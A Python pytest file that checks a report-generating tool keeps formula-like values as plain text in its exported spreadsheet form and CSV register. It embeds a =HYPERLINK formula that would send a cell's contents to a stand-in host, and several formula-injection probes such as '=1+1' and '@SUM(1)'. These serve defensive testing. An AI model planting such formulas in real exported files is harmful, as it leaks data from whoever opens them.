"""A text that a spreadsheet could take for a formula stays text, wherever it goes out."""

import csv
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from helpers.cleared import command
from helpers.project import copy_project, edit

LINK = '=HYPERLINK("https://example.org/?"&B3, "There") are specific occasions'


def test_a_finding_is_no_formula_in_the_form(tmp_path: Path) -> None:
    workspace = copy_project(tmp_path / "workspace", "hertfordshire")
    findings = workspace / "data/forces/hertfordshire.yaml"
    edit(findings, "There are specific occasions", LINK)
    edit(findings, "name: Hertfordshire Constabulary", "name: =1+1 Hertfordshire Constabulary")
    command(workspace, "accuracy", "send", "hertfordshire", "--on", "2014-08-11")
    (form,) = (workspace / "accuracy/hertfordshire/1").glob("*.xlsx")
    with zipfile.ZipFile(form) as package:
        assert not re.search(rb"<f[ >]", package.read("xl/worksheets/sheet1.xml"))
    cells = {
        cell.value: (cell.data_type, cell.quotePrefix)
        for row in openpyxl.load_workbook(form).worksheets[0].iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for beginning in (LINK, "=1+1 Hertfordshire"):
        (kept,) = [value for value in cells if value.startswith(beginning)]
        assert cells[kept] == ("s", True)
    assert cells["Finding"] == ("s", False)


@pytest.mark.parametrize("reason", ["=1+1", "+1", "-1", "@SUM(1)", "＝1+1"])
def test_a_reason_is_no_formula_in_the_register(sent: Path, tmp_path: Path, reason: str) -> None:
    office = shutil.copytree(sent, tmp_path / "office")
    command(office, "dispatch", "kent", "--yes", "--reason", reason)
    command(office, "archive", str(tmp_path / "archive"))
    with (tmp_path / "archive/register-of-copies.csv").open(encoding="utf-8-sig") as file:
        reasons = [row["reason"] for row in csv.DictReader(file)]
    assert reasons == ["", "", f"'{reason}"]
